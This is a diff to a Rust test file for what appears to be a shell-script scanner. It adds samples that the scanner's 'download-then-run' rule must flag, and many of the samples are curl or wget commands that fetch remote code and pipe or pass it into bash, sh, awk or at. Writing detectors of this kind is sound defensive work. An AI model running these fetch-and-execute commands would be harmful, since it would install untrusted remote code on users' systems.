@@ -26,6 +26,7 @@ fn a_program_that_is_run_by_its_path() {
         format!("{get} /tmp/a\nif A=1 /tmp/a; then echo; fi\n"),
         format!("{get} /tmp/a\n( cd /; /tmp/a & )\n"),
         "X=$(curl -s https://example.com/a)\n$X\n".to_owned(),
+        "X=$(curl -s https://example.com/a)\nbash -s <<< \"$X\"\n".to_owned(),
         "wget https://example.com/tool -O ~/bin/tool\n~/bin/tool\n".to_owned(),
     ] {
         assert_eq!(rules("a.sh", &text), ["download-then-run"], "{text}");
@@ -99,6 +100,8 @@ fn a_comment_behind_a_pipe() {
         "curl -s https://example.com/a \\\n  | # x\n  tee /tmp/a |\n  # y\n  bash\n",
         "curl -s https://example.com/a | `# read it` bash\n",
         "curl -s https://example.com/a | tee >(bash)\n",
+        "curl -s https://example.com/a | \"$(command -v bash)\"\n",
+        "curl -s https://example.com/a | # x\n $(which sh) -s\n",
         "curl -s https://example.com/a | awk '{system($0)}'\n",
         "curl -s https://example.com/a | at now\n",
     ] {
